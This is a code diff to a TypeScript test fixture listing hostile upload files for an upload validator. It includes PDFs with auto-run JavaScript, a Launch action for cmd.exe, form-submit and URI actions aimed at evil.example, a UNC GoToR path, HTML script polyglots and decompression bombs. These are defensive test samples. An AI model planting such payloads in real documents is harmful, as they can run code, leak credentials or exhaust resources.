@@ -1,6 +1,7 @@
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
 import type { UploadUse } from '#api/uploads.ts'
 import { fileTypes } from '../../platform/files/file-store.ts'
+import { objectStream, pdfOf, pdfWith, printedPdf } from '../../platform/testing/pdf-files.ts'
 import { jpeg, png } from '../../users/testing/pictures.ts'
 import { doc, docx, docxParts, relation, relationsPart, wordText, workbookStream, xls, xlsx, zipOf } from './office-files.ts'
 
@@ -22,8 +23,6 @@ const pdfType = 'application/pdf'
 const script = '<script>alert(1)</script>'
 const join = (...parts: (string | Buffer)[]) =>
   Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))
-const pdf = (...objects: (string | Buffer)[]) => join('%PDF-1.7\n', ...objects, '\n%%EOF\n')
-const objectStream = (text: string) => join('<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n', deflateSync(text), '\nendstream')
 
 /** An archive of one file. */
 function zip(content: Buffer, comment = ''): Buffer {
@@ -52,6 +51,7 @@ function hugePng(width: number, height: number): Buffer {
   return bytes
 }
 
+const opening = (action: string) => pdfWith(`<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`)
 const heic = join('\0\0\0\x18ftypheic', Buffer.alloc(16))
 const asPdf = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'diploma.pdf', type: pdfType, bytes, answer })
 const asPng = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'rg.png', type: 'image/png', bytes, answer })
@@ -60,7 +60,7 @@ const byName = (what: string, name: string, answer: string, keptAs?: string): Ho
   what,
   name,
   type: pdfType,
-  bytes: pdf('1'),
+  bytes: pdfOf(),
   answer,
   ...(keptAs && { keptAs }),
 })
@@ -203,19 +203,23 @@ export const hostileFiles: HostileFile[] = [
   asPdf('an archive by the name of a document', zip(Buffer.from('x')), 'FILE_TYPE'),
   asPdf('an archive that swells a thousandfold', zip(Buffer.alloc(50_000_000)), 'FILE_TYPE'),
   asPdf('half a document', Buffer.from('%PDF-1.7\n1 0 obj'), 'FILE_TYPE'),
-  asPdf('a page before a document', join(`<html>${script}</html>\n`, pdf('1')), 'FILE_TYPE'),
-  asPdf('a page behind a document', join(pdf('1'), `<html>${script}</html>`), 'FILE_TYPE'),
-  asPdf('an archive behind a document', join(pdf('1'), zip(Buffer.from('x'))), 'FILE_TYPE'),
+  asPdf('a page before a document', join(`<html>${script}</html>\n`, pdfOf()), 'FILE_TYPE'),
+  asPdf('a page behind a document', join(pdfOf(), `<html>${script}</html>`), 'FILE_TYPE'),
+  asPdf('an archive behind a document', join(pdfOf(), zip(Buffer.from('x'))), 'FILE_TYPE'),
   asPdf('a document that is an archive too', join('%PDF-1.7\n', zip(Buffer.from('x'), '\n%%EOF\n')), 'FILE_TYPE'),
-  asPdf('a document with a script', pdf('<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), 'FILE_ACTIVE'),
-  asPdf('a script by an escaped name', pdf('<</S/J#61vaScript/JS(1)>>'), 'FILE_ACTIVE'),
-  asPdf('a script in a stream of objects', pdf(objectStream('1 0 <</S/JavaScript/JS(1)>>')), 'FILE_ACTIVE'),
-  asPdf('a stream of objects that swells', pdf(objectStream(' '.repeat(40_000_000))), 'FILE_ACTIVE'),
-  asPdf('a document that starts a program', pdf('<</S/Launch/F(cmd.exe)>>'), 'FILE_ACTIVE'),
-  asPdf('a document that carries a file', pdf('<</Type/EmbeddedFile>>'), 'FILE_ACTIVE'),
-  asPdf('a document that submits a form', pdf('<</S/SubmitForm/F(https://evil.example)>>'), 'FILE_ACTIVE'),
-  asPdf('a document that opens another one', pdf('<</S/GoToE/F(other.pdf)>>'), 'FILE_ACTIVE'),
-  asPdf('a document with a form of another language', pdf('<</AcroForm<</XFA 3 0 R>>>>'), 'FILE_ACTIVE'),
+  asPdf('a document with a script', opening('<</S/JavaScript/JS(app.alert(1))>>'), 'FILE_ACTIVE'),
+  asPdf('a script by an escaped name', opening('<</S/J#61vaScript/JS(1)>>'), 'FILE_ACTIVE'),
+  asPdf('a script in a stream of objects', pdfOf(objectStream('<</S/JavaScript/JS(1)>>')), 'FILE_ACTIVE'),
+  asPdf('a stream of objects that swells', pdfOf(objectStream(' '.repeat(100_000_000))), 'FILE_ACTIVE'),
+  asPdf('a document that starts a program', opening('<</S/Launch/F(cmd.exe)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that carries a file', pdfOf('<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream'), 'FILE_ACTIVE'),
+  asPdf('a document that submits a form', pdfOf('<</S/SubmitForm/F(https://evil.example)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that opens another one', pdfOf('<</S/GoToE/F(other.pdf)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that opens one of a network', opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that opens an address by itself', opening('<</S/URI/URI(https://evil.example)>>'), 'FILE_ACTIVE'),
+  asPdf('a document with a form of another language', pdfWith('<</Type/Catalog/AcroForm<</XFA 3 0 R>>>>'), 'FILE_ACTIVE'),
+  asPdf('a document that opens with a password', await printedPdf('x', { userPassword: 'segredo' }), 'FILE_LOCKED'),
+  asPdf('a document that its owner lets nobody print', await printedPdf('x', { ownerPassword: 'dono' }), 'kept'),
   {
     what: 'a drawing with a script',
     name: 'rg.svg',
